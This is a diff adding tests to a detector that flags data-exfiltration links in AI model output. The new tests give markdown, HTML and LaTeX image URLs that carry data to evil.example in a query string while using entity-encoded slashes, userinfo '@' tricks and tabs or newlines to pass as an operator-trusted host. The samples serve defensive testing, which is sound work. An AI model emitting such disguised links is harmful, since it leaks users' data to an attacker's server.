@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { createRequestAddresses } from '../../../src/detection/answers/request-addresses.ts';
 import { exfiltrationLink } from '../../../src/detection/detectors/exfiltration-link.ts';
 import { expectCheap } from '../cost.ts';
 import { run, textsOf } from '../stream/streams.ts';
@@ -140,6 +141,35 @@ it.each([
     `?x=${bytes.toString('hex')}`,
   ])
     expect(scoreOf(`![x](https://evil.example/${carried})`), carried).toBeGreaterThanOrEqual(0.8);
+});
+
+describe('a host that the operator named', () => {
+  const segment = {
+    text: 'Our pictures are at https://good.example.',
+    pointer: '/messages/0/content',
+    role: 'system',
+    trust: 'trusted',
+    direction: 'input',
+    source: { start: 0, end: 0 },
+  } as const;
+  const request = createRequestAddresses([segment], [], { maybe: 0.5, certain: 0.7 });
+  const scoreHere = (text: string): number =>
+    Math.max(0, ...exfiltrationLink.detect(text, { ...OUTPUT, request }).map(({ score }) => score));
+
+  it('gets data', () => {
+    expect(scoreHere(`![x](https://good.example/?q=${SAID})`)).toBe(0.4);
+    expect(scoreHere(`<img src="https://good.example/&#63;q=${SAID}">`)).toBeLessThanOrEqual(0.4);
+  });
+
+  it.each([
+    `<img src="https://evil.example&sol;@good.example/?q=${SAID}">`,
+    `![x](https://good.example&sol;@evil.example/?q=${SAID})`,
+    `\\includegraphics{https://good.example&quest;@evil.example/?q=${SAID}}`,
+    `<img src="https://good.example\n.evil.example/?q=${SAID}">`,
+    `<img src="https://good.example&Tab;.evil.example/?q=${SAID}">`,
+  ])('is no other, whoever reads it: %s', (text) => {
+    expect(scoreHere(text)).toBeGreaterThanOrEqual(0.65);
+  });
 });
 
 describe('an address that carries nothing', () => {
